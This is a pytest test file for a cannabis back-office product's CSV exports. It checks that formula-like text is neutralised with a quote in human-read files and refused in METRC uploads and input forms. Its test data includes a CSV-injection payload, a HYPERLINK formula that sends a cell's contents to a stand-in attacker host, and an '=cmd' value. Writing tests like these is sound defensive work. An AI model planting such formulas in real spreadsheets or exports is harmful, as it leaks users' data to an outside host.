"""Every CSV the product writes keeps formula-looking text from running in a spreadsheet:
neutralised where people read the file, refused where METRC must receive the text as typed."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from backoffice.db.engine import Database
from backoffice.domain.text import check_metrc_text, neutralise
from backoffice.domain.units import Unit
from backoffice.errors import ImportFileError, ValidationError
from backoffice.exporters.count_sheet import write_sheet_csv
from backoffice.metrc.csv_export import write_adjustments, write_location_changes
from backoffice.metrc.payloads import PackageAdjustment
from backoffice.services import adjustments, locations, metrc_packages_import
from backoffice.services.actor import Actor
from backoffice.services.counts import SheetLine

TAG = "1A4060300000000000000009"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_text_is_neutralised_and_refused_for_metrc(text: str) -> None:
    assert neutralise(text) == "'" + text
    with pytest.raises(ValidationError, match="spreadsheets run as a formula"):
        check_metrc_text(text, "the note")


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert neutralise("Blue Dream 3.5g") == "Blue Dream 3.5g"
    assert neutralise(Decimal("-2")) == Decimal("-2")
    assert check_metrc_text("Damaged in transit", "the note") == "Damaged in transit"


def test_count_sheet_csv_neutralises_item_and_location_names(tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    write_sheet_csv(
        out,
        [SheetLine(TAG, HOSTILE, "@Vault", "Each", None), SheetLine(TAG[:-1] + "8", "Gummies", "Vault", "Each", None)],
    )
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    assert rows[1] == [TAG, "'" + HOSTILE, "'@Vault", "Each", ""]
    assert rows[2][1:3] == ["Gummies", "Vault"]


def test_metrc_upload_csv_refuses_formula_text_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "adjust.csv"
    bad = PackageAdjustment(TAG, Decimal("-2"), Unit.EACH, "Damage", date(2026, 11, 21), HOSTILE)
    with pytest.raises(ImportFileError) as caught:
        write_adjustments(path, [bad])
    assert "line 2, field 'ReasonNote'" in str(caught.value) and not path.exists()
    with pytest.raises(ImportFileError, match="field 'Location'"):
        write_location_changes(path, [{"Label": TAG, "Location": "=cmd", "MoveDate": "2026-11-21"}])
    fine = PackageAdjustment(TAG, Decimal("-2"), Unit.EACH, "Damage", date(2026, 11, 21), "Dropped, 2 broken")
    assert write_adjustments(path, [fine]) == 1  # a negative quantity is a number, not formula text


def test_formula_text_is_refused_where_it_is_typed(db: Database, actors: dict[str, Actor], samples: Path) -> None:
    metrc_packages_import.import_file(db, actors["admin"], samples / "metrc_packages_active.json")
    with pytest.raises(ValidationError, match="the note '=HYPERLINK"):
        adjustments.preview(db, actors["maria"], TAG, "-1", "Damage", HOSTILE)
    with pytest.raises(ValidationError, match="the reason name"):
        adjustments.set_reason(db, actors["admin"], "=Damage", requires_note=False)
    with pytest.raises(ValidationError, match="the location name"):
        locations.add_location(db, actors["admin"], "+Back room", "vault")
    with pytest.raises(ValidationError, match="the METRC location name"):
        locations.add_location(db, actors["admin"], "Back room", "vault", "@Back")
